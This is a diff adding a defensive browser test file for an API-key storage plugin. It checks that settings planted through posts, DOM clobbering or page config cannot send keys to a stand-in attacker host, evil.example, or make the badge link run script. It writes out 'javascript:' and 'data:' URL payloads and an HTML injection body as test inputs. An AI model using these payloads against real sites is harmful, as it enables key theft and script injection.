@@ -1,0 +1,75 @@
+/**
+ * What is planted without a script: in a post by somebody who may write posts but no scripts, in the settings that the site
+ * prints, or on Object.prototype by a careless program of the page. A key goes nowhere else for it, and nothing runs.
+ */
+
+import assert from 'node:assert/strict';
+import { makeKey } from '../keys.mjs';
+import { MEMBER, SITE, open, paste, reads, test } from './harness.mjs';
+import { requests } from './provider.mjs';
+import { site } from './site.mjs';
+
+const ANYWHERE = { connect: '*' };
+const EVIL = 'http://evil.example/';
+
+/** Answers for the attacker as a site would; returns what he got. */
+async function evil( page ) {
+	const got = [];
+	await page.route( `${ EVIL }**`, ( route ) => {
+		got.push( route.request().url() + ( route.request().postData() ?? '' ) );
+		return route.fulfill( {
+			headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' },
+			contentType: 'application/json', body: '{"token":"t","provider":"anthropic","state":"ready","outcome":"valid"}',
+		} );
+	} );
+	return got;
+}
+
+/** Where the badge leads. */
+const badge = ( page ) => page.locator( 'byok-badge' ).evaluate( ( element ) => element.shadowRoot.querySelector( 'a' )?.getAttribute( 'href' ) ?? '' );
+
+export async function planted() {
+	await test( 'planted: a post with the settings\' id changes neither where keys go nor where the badge leads', async ( page ) => {
+		const got = await evil( page );
+		const settings = JSON.stringify( { site: { root: EVIL, visitors: true, relay: true }, practice: { url: 'javascript:document.title="run"', safe: true } } );
+		// As the filter for posts leaves it: no script, but any id.
+		const body = `<pre id="wp-script-module-data-byok">${ settings.replace( /"/g, '&quot;' ) }</pre><object id="querySelector"></object><byok-settings></byok-settings><byok-badge></byok-badge>`;
+		const it = await open( page, MEMBER, { ...ANYWHERE, body } );
+		await paste( it, makeKey( 'anthropic', 'valid' ) );
+		await reads( it.message, 'Works. Saved and encrypted.' );
+		assert.equal( site.keys.size, 1 );
+		assert.deepEqual( got, [] );
+		assert.equal( await badge( page ), `${ SITE }/practice` );
+	} );
+
+	await test( 'planted: settings that cannot be read are none', async ( page ) => {
+		for ( const config of [ '{"site":', 'null', '[]' ] ) {
+			const it = await open( page, config );
+			await it.key.waitFor();
+			assert.equal( await it.mode( 'site' ).count(), 0 );
+			assert.equal( await it.mode( 'browser' ).count(), 1 );
+		}
+	} );
+
+	await test( 'planted: settings in the page lead to no other origin, and the badge to no script', async ( page ) => {
+		const got = await evil( page );
+		const it = await open( page, { site: { ...MEMBER.site, root: EVIL }, practice: { url: 'javascript:document.title="run"', safe: true } }, ANYWHERE );
+		await it.key.waitFor();
+		assert.equal( await it.mode( 'site' ).count(), 0 );
+		assert.equal( await badge( page ), '' );
+		for ( const href of [ 'java\nscript:document.title="run"', 'data:text/html,x', 'https://', '' ] ) {
+			await open( page, MEMBER, { body: `<byok-badge href="${ href }"></byok-badge>` } );
+			assert.equal( await badge( page ), '', href );
+		}
+		await open( page, MEMBER, { body: '<byok-badge href="https://example.com/how"></byok-badge>' } );
+		assert.equal( await badge( page ), 'https://example.com/how' );
+		// A nonce is fetched from here only, and a page of ours may name another site in code.
+		await open( page, { ...MEMBER, site: { ...MEMBER.site, nonceUrl: `${ EVIL }nonce` } }, ANYWHERE );
+		site.nonce = 'abcdef0123';
+		assert.equal( await page.evaluate( () => window.byokModule.createBYOK().keys.list().catch( ( error ) => error.reason ) ), 'signed_out' );
+		assert.deepEqual( got, [] );
+		const said = await page.evaluate( ( root ) => window.byokModule.createBYOK( { modes: [ 'site' ], site: { root, visitors: true } } ).keys.save( 'anthropic', 'byok-test-key' ).then( ( { mode } ) => mode ), EVIL );
+		assert.equal( said, 'site' );
+		assert.equal( got.length > 0, true );
+	} );
+}
